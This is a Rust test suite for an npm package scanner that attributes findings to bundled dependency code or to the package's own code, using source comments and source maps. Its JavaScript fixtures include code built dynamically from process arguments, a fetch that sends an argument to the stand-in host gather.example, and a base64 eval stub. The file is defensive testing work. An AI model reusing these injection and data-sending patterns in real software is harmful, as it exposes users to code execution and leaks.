//! Whose code a finding is in, inside one bundle, and what that changes.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use mcpscan::model::{ArtifactKind, ScanReport};
use mcpscan::signatures::Signatures;

use crate::judged::{judge, pack};

/// A package of these files, the first of which is what it runs.
fn judged(files: &[(&str, &str)]) -> ScanReport {
    let manifest = format!(r#"{{ "name": "notes", "version": "1.0.0", "main": "{}" }}"#, files[0].0);
    let all = [("package.json", manifest.as_str())].into_iter().chain(files.iter().copied());
    let all = all.map(|(path, text)| (path.to_owned(), text.as_bytes().to_vec())).collect();
    judge(pack(ArtifactKind::NpmTarball, &all), &Signatures::builtin())
}

/// `line severity rule origin` of each finding, by line.
fn findings(report: &ScanReport) -> Vec<String> {
    let mut all: Vec<_> = report
        .findings
        .iter()
        .map(|finding| (finding.location.start_line, format!("{} {} {}", finding.severity, finding.rule, finding.origin)))
        .collect();
    all.sort();
    all.into_iter().map(|(line, text)| format!("{line} {text}")).collect()
}

const BUNDLE: &str = "\
import process from 'node:process';

// node_modules/.pnpm/zod@3.23.8/node_modules/zod/lib/index.mjs
function compile(text) {
  return new Function('value', 'return ' + text);
}
function forgotten(text) {
  return new Function('value', 'return ' + text + process.env.FORGOTTEN_MODE);
}
function gather() {
  fetch('https://gather.example/' + process.argv[3]);
}

// src/index.ts
setInterval(() => compile(process.title), 8080);
function run(text) {
  return new Function('value', 'return ' + text);
}
run(process.argv[2]);
";

#[test]
fn a_finding_in_a_bundle_says_whose_code_it_is_in() {
    let report = judged(&[("dist/index.js", BUNDLE)]);
    let expected = [
        "5 medium dynamic-code bundled:zod",
        // Nothing uses it.
        "8 info dynamic-code bundled:zod",
        "8 info undeclared-env bundled:zod",
        // Nothing uses it, but it reaches out.
        "11 medium undeclared-host bundled:zod",
        "17 medium dynamic-code own",
    ];
    assert_eq!(findings(&report), expected);
    let idle = report.findings.iter().find(|finding| finding.location.start_line == 8).unwrap();
    assert!(idle.message.ends_with("in bundled code that nothing here uses"), "{}", idle.message);
    let reasons: Vec<&str> = report.score.deductions.iter().map(|row| row.reason.as_str()).collect();
    assert_eq!(
        reasons,
        ["2 medium findings: dynamic-code, 1 in bundled code at 50 %", "1 medium finding: undeclared-host, in bundled code at 50 %"]
    );
    let env = &report.observed.env[0];
    assert_eq!((env.name.as_str(), env.origin.to_string().as_str()), ("FORGOTTEN_MODE", "bundled:zod"));
    let hosts: Vec<String> = report.observed.hosts.iter().map(|host| format!("{} {}", host.name, host.origin)).collect();
    assert_eq!(hosts, ["gather.example bundled:zod"]);
}

#[test]
fn a_claim_excuses_nothing_grave() {
    let code = "eval(Buffer.from('cHJvY2Vzcy5leGl0KDEp', 'base64').toString());\n";
    let own = judged(&[("index.js", code)]);
    let claims = [
        format!("// node_modules/zod/index.js\n{code}"),
        format!("// node_modules/zod/index.js\nfunction idle() {{\n  {code}}}\n"),
        format!("/*! zod v3.23.8 */\n{code}"),
    ];
    for claim in &claims {
        let claimed = judged(&[("index.js", claim)]);
        assert_eq!(claimed.findings[0].origin.to_string(), "bundled:zod", "{claim}");
        assert_eq!((claimed.verdict, claimed.score.value), (own.verdict, own.score.value), "{claim}");
    }
    let itself = judged(&[("index.js", "// node_modules/notes/index.js\neval('a' + process.argv[2]);\n")]);
    assert_eq!(itself.findings[0].origin.to_string(), "own", "a package is not bundled in itself");
}

/// Own code counts before bundled code that does the same.
#[test]
fn what_own_code_does_too_is_said_of_own_code() {
    let text = "// node_modules/zod/index.js\nfunction idle() {\n  return process.env.ACME_MODE;\n}\n// src/index.ts\nstart(process.env.ACME_MODE);\n";
    assert_eq!(findings(&judged(&[("index.js", text)])), ["6 low undeclared-env own"]);
}

const FIRST: &str = "function compile(t){return new Function('v','return '+t)}";
const SECOND: &str = "function run(t){return new Function('v','return '+t)}compile(process.argv[3]);run(process.argv[2]);";

/// A map for a bundle of one line, in which the second source begins at `column`.
fn map(column: usize) -> String {
    let sources = r#""sources":["../node_modules/zod/lib/index.mjs","../src/index.ts"]"#;
    format!(r#"{{"version":3,{sources},"sourcesContent":["",""],"names":[],"mappings":"AAAA,{}CAA"}}"#, number(column))
}

/// As Base64 VLQ.
fn number(value: usize) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let (mut rest, mut text) = (value << 1, String::new());
    loop {
        let more = if rest > 31 { 32 } else { 0 };
        text.push(char::from(DIGITS[rest & 31 | more]));
        rest >>= 5;
        if more == 0 {
            return text;
        }
    }
}

/// The origins of the findings, from left to right.
fn origins(report: &ScanReport) -> Vec<String> {
    let mut all: Vec<_> = report.findings.iter().map(|finding| (finding.location.start_column, finding.origin.to_string())).collect();
    all.sort();
    all.into_iter().map(|(_, origin)| origin).collect()
}

#[test]
fn a_source_map_tells_the_parts_of_one_line_apart() {
    let code = format!("{FIRST}{SECOND}\n//# sourceMappingURL=index.js.map\n");
    let report = judged(&[("dist/index.js", &code), ("dist/index.js.map", &map(FIRST.len()))]);
    assert_eq!(origins(&report), ["bundled:zod", "own"]);
    assert_eq!(origins(&judged(&[("dist/index.js", &code)])), ["own", "own"], "the map is not there");
    let missing = judged(&[("dist/index.js", &code), ("dist/index.js.map", "{\"sources\": [\"node_modules\", 7")]);
    assert_eq!(origins(&missing), ["own", "own"], "the map is broken");
}

#[test]
fn a_source_map_may_stand_in_the_file_itself() {
    use base64::Engine;
    let data = base64::engine::general_purpose::STANDARD.encode(map(FIRST.len()));
    let code = format!("{FIRST}{SECOND}\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,{data}\n");
    assert_eq!(origins(&judged(&[("dist/index.js", &code)])), ["bundled:zod", "own"]);
}
